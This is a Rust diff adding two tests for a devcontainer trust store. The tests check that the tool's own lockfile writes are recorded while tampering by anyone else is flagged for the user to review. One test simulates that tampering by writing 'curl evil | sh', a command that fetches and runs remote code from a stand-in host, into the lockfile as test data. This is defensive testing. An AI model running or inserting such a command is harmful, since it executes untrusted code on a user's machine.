@@ -102,3 +102,41 @@ fn the_store_is_outside_the_workspace_and_private() {
     assert_eq!(std::fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o600);
     assert_eq!(std::fs::metadata(&store).unwrap().permissions().mode() & 0o777, 0o700);
 }
+
+#[test]
+fn containais_own_lockfile_write_is_followed_and_anyone_elses_is_not() {
+    let (dir, store) = setup();
+    let w = ws(dir.path(), ".devcontainer/devcontainer.json");
+    let cfg = config("sh .devcontainer/init.sh");
+    let lock = dir.path().join("proj/.devcontainer/devcontainer-lock.json");
+    trust(&store, &w, &Fingerprint::of(&cfg, &w, &[needs("initializeCommand")]).unwrap()).unwrap();
+    let now = || Fingerprint::of(&cfg, &w, &[needs("initializeCommand")]).unwrap();
+    // containai writes the lockfile: the record follows.
+    let before = entry_of(&lock).unwrap();
+    std::fs::write(&lock, r#"{"features": {}}"#).unwrap();
+    follow_own_write(&store, &cfg, &w, &lock, before).unwrap();
+    require(&store, &w, &now()).unwrap();
+    // Someone else rewrites it, then containai writes it again: the record covered other bytes, so it stays
+    // as the user trusted it, and the change is theirs to review.
+    std::fs::write(&lock, "curl evil | sh\n").unwrap();
+    let before = entry_of(&lock).unwrap();
+    std::fs::write(&lock, r#"{"features": {"a": {}}}"#).unwrap();
+    follow_own_write(&store, &cfg, &w, &lock, before).unwrap();
+    let err = require(&store, &w, &now()).unwrap_err().to_string();
+    assert!(err.contains("changed file `.devcontainer/devcontainer-lock.json`"), "{err}");
+}
+
+#[test]
+fn a_lockfile_no_host_command_covers_is_not_recorded() {
+    let (dir, store) = setup();
+    let w = ws(dir.path(), ".devcontainer/devcontainer.json");
+    let cfg: DevContainer =
+        serde_json::from_value(json!({"image": "x", "mounts": ["type=bind,source=/x,target=/x"]})).unwrap();
+    let fp = Fingerprint::of(&cfg, &w, &[needs("mounts[0]")]).unwrap();
+    trust(&store, &w, &fp).unwrap();
+    let lock = dir.path().join("proj/.devcontainer/devcontainer-lock.json");
+    std::fs::write(&lock, r#"{"features": {}}"#).unwrap();
+    follow_own_write(&store, &cfg, &w, &lock, None).unwrap();
+    require(&store, &w, &Fingerprint::of(&cfg, &w, &[needs("mounts[0]")]).unwrap()).unwrap();
+    assert!(!std::fs::read_to_string(record_path(&store, &w)).unwrap().contains("lock"));
+}
